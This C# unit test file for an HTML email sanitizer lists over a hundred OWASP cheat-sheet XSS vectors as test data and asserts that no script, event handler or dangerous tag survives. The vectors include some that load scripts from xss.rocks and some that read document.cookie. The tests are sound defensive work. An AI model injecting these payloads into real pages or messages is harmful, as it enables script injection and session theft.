using Haumai.Mail.Html;

namespace Haumai.Mail.Tests.Html;

/// <summary>The classics of the OWASP XSS filter evasion cheat sheet: none may leave anything that runs.</summary>
public class XssTests
{
    public static TheoryData<string> Vectors => new()
    {
        "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
        "<script>alert('XSS')</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
        "<SCRIPT SRC=//xss.rocks/.j>",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "\\\";alert('XSS');//",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<a onmouseover=alert(document.cookie)>xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<img src=x onerror=alert(1)>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29\">x</a>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
        "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
        "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<BODY ONLOAD=alert('XSS')>",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<svg/onload=alert('XSS')>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><mi xlink:href=\"data:x,<script>alert(4)</script>\">hello</mi></math>",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">x</DIV>",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<p style=\"color: red; width: expression(alert(1))\">x</p>",
        "<p style=\"color:e&#x78;pression(alert(1))\">x</p>",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<base href=\"http://evil.example/\"><a href=\"/x\">x</a>",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
        "<form><button formaction=javascript:alert(1)>X</button></form>",
        "<input onfocus=alert(1) autofocus>",
        "<select onfocus=alert(1) autofocus>",
        "<textarea onfocus=alert(1) autofocus>",
        "<keygen onfocus=alert(1) autofocus>",
        "<video><source onerror=\"alert(1)\">",
        "<audio src=x onerror=alert(1)>",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TR></TABLE>",
        "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<BR SIZE=\"&{alert('XSS')}\">",
        "<XSS STYLE=\"behavior: url(xss.htc);\">",
        "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
        "<!-- <script>alert(1)</script> -->",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
        "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<div><p><b><i><a href=\"javascript:alert(1)\" onclick=alert(1)>nested <span onmouseover=x>broken",
        "<a href=\"http://a.example/\"><img src=x onerror=alert(1)></a></a></a>",
        "<p>unclosed <b>bold <i>both</b> italic</i> tail",
        "<div id=\"x\" class=\"y\" onclick=\"z\">id and class dropped</div>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<a href=\"http://ok.example/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</a>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<object data=\"javascript:alert(1)\">",
        "<isindex action=javascript:alert(1) type=image>",
        "<a href=\"https://ok.example/\" onclick=\"alert(1)\" target=\"_self\" rel=\"opener\">link</a>",
        "<img src=\"cid:image001.png@01D\" onerror=\"alert(1)\">",
        "<img srcset=\"javascript:alert(1) 1x\" src=\"data:image/png;base64,iVBORw0KGgo=\">",
        "<a href=\"mailto:x@example.com\" onmouseover=alert(1)>mail</a>",
        "<span lang=\"vi\" dir=\"rtl onmouseover=alert(1)\">dir</span>",
        "<td colspan=\"2 onmouseover=alert(1)\">cell</td>",
        "\"><script>alert(1)</script>",
        "'';!--\"<XSS>=&{()}",
    };

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Nothing_executable_survives(string input)
    {
        foreach (var options in new[]
        {
            HtmlSanitizerOptions.Default,
            new HtmlSanitizerOptions { AllowRemoteImages = true, KeepSafeStyles = true, ResolveCid = id => "/attachments/" + id },
        })
        {
            var result = HtmlSanitizer.Sanitize(input, options);
            SafeHtml.AssertSafe(result.Html, allowStyle: options.KeepSafeStyles);
            var lower = result.Html.ToLowerInvariant();
            lower.ShouldNotContain("<script");
            lower.ShouldNotContain("<iframe");
            lower.ShouldNotContain("<svg");
            lower.ShouldNotContain("<style");
            lower.ShouldNotContain("<meta");
            lower.ShouldNotContain("<base");
            lower.ShouldNotContain("<form");
            System.Text.RegularExpressions.Regex.IsMatch(lower, @"\son[a-z]+\s*=").ShouldBeFalse(result.Html);
        }
    }

    [Fact]
    public void Script_and_style_content_is_dropped_but_unknown_tags_keep_their_text()
    {
        var result = HtmlSanitizer.Sanitize("<script>alert(1)</script><style>p{}</style><custom-tag>Xin chào</custom-tag><article>bài</article>");
        result.Html.ShouldBe("Xin chàobài");
    }

    [Fact]
    public void Event_handlers_class_and_id_are_removed_but_allowed_attributes_stay()
    {
        var result = HtmlSanitizer.Sanitize("<p id=a class=b onclick=c title=\"Tiêu đề\" dir=RTL lang=vi-VN>x</p>");
        result.Html.ShouldBe("<p title=\"Tiêu đề\" dir=\"rtl\" lang=\"vi-VN\">x</p>");
    }

    [Fact]
    public void Links_keep_http_https_and_mailto_and_open_safely()
    {
        var result = HtmlSanitizer.Sanitize("<a href=\"https://haumai.vn/a?b=1&amp;c=2\" title=t>one</a> <a href=\"mailto:lan@khachhang.vn\">two</a> <a href=\"/relative\">three</a> <a href=\"javascript:alert(1)\">four</a>");
        result.Html.ShouldBe(
            "<a href=\"https://haumai.vn/a?b=1&amp;c=2\" title=\"t\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">one</a> "
            + "<a href=\"mailto:lan@khachhang.vn\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">two</a> three four");
    }

    [Fact]
    public void Font_and_center_become_span_and_div()
    {
        HtmlSanitizer.Sanitize("<center><font color=red face=Arial>x</font></center>").Html.ShouldBe("<div><span>x</span></div>");
        HtmlSanitizer.Sanitize("<font color=red>x</font>", new HtmlSanitizerOptions { KeepSafeStyles = true }).Html
            .ShouldBe("<span style=\"color: red\">x</span>");
    }

    [Fact]
    public void Safe_styles_are_kept_only_when_asked_and_only_the_harmless_properties()
    {
        const string input = "<p style=\"color: #c00; background-color: rgb(1, 2, 3); position: fixed; font-weight: bold; background: url(http://x/y.png); margin: 0 0 4px\">x</p>";
        HtmlSanitizer.Sanitize(input).Html.ShouldBe("<p>x</p>");
        HtmlSanitizer.Sanitize(input, new HtmlSanitizerOptions { KeepSafeStyles = true }).Html
            .ShouldBe("<p style=\"color: #c00; background-color: rgb(1, 2, 3); font-weight: bold; margin: 0 0 4px\">x</p>");
        HtmlSanitizer.Sanitize("<p style=\"color: red; width: expression(alert(1))\">x</p>", new HtmlSanitizerOptions { KeepSafeStyles = true }).Html
            .ShouldBe("<p style=\"color: red\">x</p>");
        HtmlSanitizer.Sanitize("<p style=\"color: r\\65 d\">x</p>", new HtmlSanitizerOptions { KeepSafeStyles = true }).Html
            .ShouldBe("<p>x</p>");
    }

    [Fact]
    public void Table_attributes_are_checked()
    {
        var result = HtmlSanitizer.Sanitize("<table border=1 cellpadding=2 cellspacing=0 width=100% bgcolor=red><tr><td colspan=2 align=CENTER valign=top nowrap>x</td></tr></table>");
        result.Html.ShouldBe("<table border=\"1\" cellpadding=\"2\" cellspacing=\"0\" width=\"100%\"><tbody><tr><td colspan=\"2\" align=\"center\" valign=\"top\">x</td></tr></tbody></table>");
    }

    [Fact]
    public void Text_is_escaped()
    {
        var result = HtmlSanitizer.Sanitize("a &lt;script&gt; &amp; b \"q\" <p title='\"&gt;<x'>c</p>");
        result.Html.ShouldBe("a &lt;script&gt; &amp; b \"q\" <p title=\"&quot;&gt;&lt;x\">c</p>");
        SafeHtml.AssertSafe(result.Html);
    }

    [Fact]
    public void Deep_nesting_neither_overflows_nor_loses_text()
    {
        var input = string.Concat(Enumerable.Repeat("<div><span>", 3_000)) + "đáy" + string.Concat(Enumerable.Repeat("</span></div>", 3_000));
        var result = HtmlSanitizer.Sanitize(input);
        result.Html.ShouldContain("đáy");
        SafeHtml.AssertSafe(result.Html);
    }
}
